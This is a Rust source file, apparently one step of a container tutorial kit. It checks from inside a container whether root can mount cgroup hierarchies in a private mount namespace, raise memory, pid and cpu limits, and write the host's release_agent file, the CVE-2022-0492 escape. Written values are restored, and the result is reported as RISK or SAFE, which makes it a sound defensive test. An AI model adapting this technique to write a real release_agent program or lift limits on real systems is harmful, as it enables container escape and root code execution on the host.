//! Lift the own limits: run it as root *inside* (`03-cgroups --memory 64m target/kit/rootfs /kit/03-escape`).
//!
//! A limit is a file, and files can be written by root. The container does not see the cgroup file system, so: 1. in a mount
//! namespace of its own mount it, in version 2 and in each hierarchy of version 1; 2. write a higher limit into the topmost
//! directory, which is the own cgroup; 3. where a hierarchy shows the file `release_agent`, write that: it names the program
//! that the *host* starts as root when a cgroup becomes empty (CVE-2022-0492).
//!
//! What is written is what was there before, or a limit of its own container, so that a success hurts nobody.
//!
//! Prints RISK and what could be written, or SAFE when the kernel refuses it all.

use std::fs::{self, OpenOptions};
use std::io::{self, Write as _};
use std::path::Path;
use std::process::ExitCode;

use nix::mount::{MsFlags, mount, umount};
use nix::sched::{CloneFlags, unshare};

/// Any directory will do: nobody else sees what is mounted here.
const DOOR: &str = "/dev";
/// A limit of each version that whoever is inside would like to be higher.
const LIMITS: &[(&str, &str)] = &[
    ("memory.max", "max"),
    ("memory.limit_in_bytes", "-1"),
    ("memory.memsw.limit_in_bytes", "-1"),
    ("pids.max", "max"),
    ("cpu.max", "max"),
    ("cpu.cfs_quota_us", "-1"),
];

fn main() -> ExitCode {
    match escape() {
        Ok(lifted) if lifted.is_empty() => {
            println!("SAFE: no limit can be lifted, and no release_agent set");
            ExitCode::SUCCESS
        }
        Ok(lifted) => {
            println!("RISK: could write {}", lifted.join(", "));
            ExitCode::from(1)
        }
        Err(error) if error.kind() == io::ErrorKind::PermissionDenied => {
            println!("SAFE: the kernel refuses a mount namespace here");
            ExitCode::SUCCESS
        }
        Err(error) => {
            println!("ERROR: the attack could not be tried: {error}");
            ExitCode::from(2)
        }
    }
}

/// The files that could be written.
// ANCHOR: escape
fn escape() -> io::Result<Vec<String>> {
    let hierarchies = fs::read_to_string("/proc/self/cgroup")?;
    unshare(CloneFlags::CLONE_NEWNS)?;
    mount(None::<&str>, "/", None::<&str>, MsFlags::MS_REC | MsFlags::MS_PRIVATE, None::<&str>)?;
    let mut lifted = Vec::new();
    for controllers in hierarchies.lines().filter_map(|line| line.split(':').nth(1)) {
        let fstype = if controllers.is_empty() { "cgroup2" } else { "cgroup" };
        let options = Some(controllers).filter(|options| !options.is_empty());
        if mount(Some("cgroup"), DOOR, Some(fstype), MsFlags::empty(), options).is_ok() {
            let top = Path::new(DOOR);
            lifted.extend(LIMITS.iter().filter_map(|(file, none)| lift(&top.join(file), none)));
            lifted.extend(agent(&top.join("release_agent")).map(|file| format!("{file} of {controllers}")));
            umount(DOOR)?;
        }
    }
    Ok(lifted)
}
// ANCHOR_END: escape

/// Takes the limit away, and puts it back.
fn lift(file: &Path, none: &str) -> Option<String> {
    let before = fs::read_to_string(file).ok()?;
    write(file, none)?;
    let after = fs::read_to_string(file).ok()?;
    write(file, before.trim())?;
    let name = file.file_name()?.to_string_lossy();
    (after != before).then(|| format!("{name} (was {})", before.trim()))
}

/// Names as the program to run the one that is named already.
fn agent(file: &Path) -> Option<&'static str> {
    let before = fs::read_to_string(file).ok()?;
    write(file, &format!("{}\n", before.trim()))?;
    Some("release_agent")
}

fn write(file: &Path, text: &str) -> Option<()> {
    OpenOptions::new().write(true).open(file).ok()?.write_all(text.as_bytes()).ok()
}
